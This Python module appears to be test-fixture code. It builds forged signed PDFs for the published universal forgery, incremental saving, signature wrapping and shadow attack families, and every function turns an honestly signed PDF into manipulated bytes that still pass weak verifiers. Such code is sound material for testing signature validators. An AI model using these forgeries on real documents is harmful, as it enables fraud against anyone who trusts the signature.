"""Malicious PDFs of the four published attack families, built here from their descriptions.

Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk: "1 Trillion Dollar Refund – How To
Spoof PDF Signatures" (CCS 2019) describes universal signature forgery (USF), incremental
saving attacks (ISA) and signature wrapping (SWA); Mainka, Mladenov, Rohlmann: "Shadow
Attacks: Hiding and Replacing Content in Signed PDFs" (NDSS 2021) the hide / replace /
hide-and-replace shadow attacks. Each function takes an honestly signed PDF (and for shadow
attacks, the attacker-prepared document before signing) and returns the manipulated bytes.
"""

from __future__ import annotations

import re
from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


def _same_length(original: bytes, replacement: bytes) -> bytes:
    assert len(replacement) <= len(original), (original, replacement)
    return replacement + b" " * (len(original) - len(replacement))


def _last_byte_range(pdf: bytes) -> re.Match[bytes]:
    *_, match = BYTE_RANGE.finditer(pdf)
    return match


# ------------------------------------------------------------------ universal forgery (USF)


def usf_zero_contents(pdf: bytes) -> bytes:
    """The signature value replaced by zeros: viewers that skip empty signatures say 'valid'."""
    match = _last_byte_range(pdf)
    _start, first_length, second_start, _second_length = map(int, match.groups())
    hex_start, hex_end = first_length + 1, second_start - 1  # inside < … >
    return pdf[:hex_start] + b"0" * (hex_end - hex_start) + pdf[hex_end:]


def usf_empty_byte_range(pdf: bytes) -> bytes:
    """``/ByteRange [0 0 0 0]``: nothing is hashed, so nothing can fail to match."""
    match = _last_byte_range(pdf)
    forged = _same_length(match.group(0), b"/ByteRange [0 0 0 0]")
    return pdf[: match.start()] + forged + pdf[match.end() :]


def usf_no_byte_range(pdf: bytes) -> bytes:
    """The ``/ByteRange`` key renamed away, leaving a signature that says nothing it covers."""
    match = _last_byte_range(pdf)
    forged = b"/XyteRange" + match.group(0)[len(b"/ByteRange") :]
    return pdf[: match.start()] + forged + pdf[match.end() :]


# ------------------------------------------------------------- incremental saving (ISA)


def _update(pdf: bytes, change: object) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    change(writer)  # type: ignore[operator]
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _text_stream(writer: IncrementalPdfFileWriter, text: bytes) -> generic.IndirectObject:
    content = b"BT /F1 36 Tf 72 500 Td (" + text + b") Tj ET"
    return writer.add_object(generic.StreamObject(stream_data=content))


def isa_overlay_text(pdf: bytes) -> bytes:
    """An update that adds a content stream to page 1: 'PAID IN FULL' drawn over the text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        contents = page.raw_get("/Contents")
        existing = list(contents) if isinstance(contents, generic.ArrayObject) else [contents]
        page["/Contents"] = generic.ArrayObject([*existing, _text_stream(writer, b"PAID IN FULL")])
        writer.update_container(page)

    return _update(pdf, change)


def isa_replace_pages(pdf: bytes) -> bytes:
    """An update that swaps the page tree for one page of the attacker's making."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        pages = writer.root["/Pages"]
        page = generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Page"),
                generic.NameObject("/Parent"): writer.root.raw_get("/Pages"),
                generic.NameObject("/MediaBox"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (0, 0, 595, 842)]
                ),
                generic.NameObject("/Contents"): _text_stream(writer, b"Amount: 1 CNY"),
            }
        )
        pages["/Kids"] = generic.ArrayObject([writer.add_object(page)])
        pages["/Count"] = generic.NumberObject(1)
        writer.update_container(pages)

    return _update(pdf, change)


def isa_without_xref(pdf: bytes) -> bytes:
    """Objects appended after %%EOF with no cross-reference section or trailer.

    Lenient readers that scan for objects take the last definition of an object number,
    here a new page content; a strict reader must not use them, and the appended bytes are
    not covered by the signature either.
    """
    match = re.search(rb"/Contents\s+(\d+)\s+0\s+R", pdf)
    assert match, "page content reference not found"
    number = int(match.group(1))
    payload = b"BT /F1 36 Tf 72 500 Td (PAID IN FULL) Tj ET"
    appended = (
        f"\n{number} 0 obj\n<< /Length {len(payload)} >>\nstream\n".encode()
        + payload
        + b"\nendstream\nendobj\n"
    )
    return pdf + appended


# -------------------------------------------------------------- signature wrapping (SWA)


def swa_relocated_second_range(pdf: bytes, unsigned_length: int) -> bytes:
    """Signature wrapping: the signed bytes kept, moved, and a new document slipped in between.

    ``/ByteRange [0 b c d]`` is rewritten to ``[0 b c* d]``: the second signed part is copied
    unchanged to ``c*`` — so the hash over the two ranges is still the signed one — and the
    space between the signature value and ``c*`` holds the rest of the signature dictionary
    (with the forged range), an attacker page, and a cross-reference section placed exactly
    where the signed trailer's ``startxref`` points. A viewer following the cross-references
    shows the attacker's page; the hash matches. ``unsigned_length`` is the size of the file
    before it was signed (the signed revision's objects follow it).
    """
    match = _last_byte_range(pdf)
    _start, first_length, second_start, second_length = map(int, match.groups())
    assert second_start + second_length == len(pdf) and match.start() >= second_start
    tail = pdf[second_start:]
    startxref = int(re.search(rb"startxref\s+(\d+)\s+%%EOF\s*$", pdf).group(1))  # type: ignore[union-attr]
    xref_dict = pdf[startxref:]
    root = re.search(rb"/Root (\d+ \d+ R)", xref_dict).group(1)  # type: ignore[union-attr]
    prev = int(re.search(rb"/Prev (\d+)", xref_dict).group(1))  # type: ignore[union-attr]
    size = int(re.search(rb"/Size (\d+)", xref_dict).group(1))  # type: ignore[union-attr]
    revision = {
        int(m.group(1)): unsigned_length + m.start(1)
        for m in re.finditer(rb"(?m)^(\d+) 0 obj", pdf[unsigned_length:])
        if unsigned_length + m.start(1) < startxref
    }

    reader = PdfFileReader(BytesIO(pdf))
    page_ref = reader.root["/Pages"].raw_get("/Kids").raw_get(0)
    page = generic.DictionaryObject(dict(page_ref.get_object()))
    content_number = size
    page[generic.NameObject("/Contents")] = generic.IndirectObject(content_number, 0, reader)
    serialised = BytesIO()
    page.write_to_stream(serialised)
    payload = b"BT /F1 36 Tf 72 500 Td (Amount: 1 CNY) Tj ET"

    dict_end = pdf.index(b"endobj", match.end()) + len(b"endobj\n")
    signature_rest = pdf[second_start:dict_end]  # "/ByteRange [...] ... >>\nendobj"
    malicious = {
        content_number: f"{content_number} 0 obj\n<< /Length {len(payload)} >>\nstream\n".encode()
        + payload
        + b"\nendstream\nendobj\n",
        page_ref.idnum: f"{page_ref.idnum} 0 obj\n".encode()
        + serialised.getvalue()
        + b"\nendobj\n",
    }
    gap = bytearray(signature_rest)
    offsets = {}
    for number, text in malicious.items():
        offsets[number] = second_start + len(gap)
        gap += text
    assert second_start + len(gap) <= startxref, "no room for the attacker objects"
    gap += b"\n" * (startxref - second_start - len(gap))

    relocated = startxref  # placeholder; the xref length decides c*, and c* goes into it
    for _attempt in range(2):
        entries = {
            n: (o if o < second_start else relocated + o - second_start)
            for n, o in revision.items()
        }
        entries.update(offsets)
        lines = [b"xref\n"]
        for number in sorted(entries):
            lines.append(f"{number} 1\n{entries[number]:010d} 00000 n\r\n".encode())
        lines.append(
            b"trailer\n<< /Size %d /Root %s /Prev %d >>\n" % (content_number + 1, root, prev)
        )
        xref = b"".join(lines)
        relocated = startxref + len(xref)
    forged = _same_length(
        match.group(0), f"/ByteRange [0 {first_length} {relocated} {second_length}]".encode()
    )
    at = match.start() - second_start
    gap[at : at + len(forged)] = forged
    return pdf[:second_start] + bytes(gap) + xref + tail


# ----------------------------------------------------------------------- shadow attacks


def shadow_prepare(pdf: bytes) -> tuple[bytes, int]:
    """The attacker's document *before* signing: an unreferenced 'shadow' content stream.

    Returns the prepared PDF and the shadow object's number. The victim signs this file; the
    shadow content is part of what was signed, but no page shows it.
    """
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    shadow = _text_stream(writer, b"Amount: 1 CNY")
    out = BytesIO()
    writer.write(out)
    return out.getvalue(), shadow.idnum


def shadow_hide_and_replace(signed: bytes, shadow_number: int) -> bytes:
    """After signing, a tiny update points page 1 at the shadow content: no new content."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        page["/Contents"] = generic.IndirectObject(shadow_number, 0, writer)
        writer.update_container(page)

    return _update(signed, change)


def shadow_replace_font(signed: bytes) -> bytes:
    """After signing, the page's font resource is redirected to another object."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        resources = page["/Resources"]
        fonts = resources["/Font"] if "/Font" in resources else generic.DictionaryObject()
        replacement = writer.add_object(
            generic.DictionaryObject(
                {
                    generic.NameObject("/Type"): generic.NameObject("/Font"),
                    generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
                    generic.NameObject("/BaseFont"): generic.NameObject("/Helvetica"),
                }
            )
        )
        fonts = generic.DictionaryObject(
            {name: replacement for name in fonts} or {generic.NameObject("/F1"): replacement}
        )
        resources = generic.DictionaryObject({**resources, generic.NameObject("/Font"): fonts})
        page["/Resources"] = resources
        writer.update_container(page)

    return _update(signed, change)
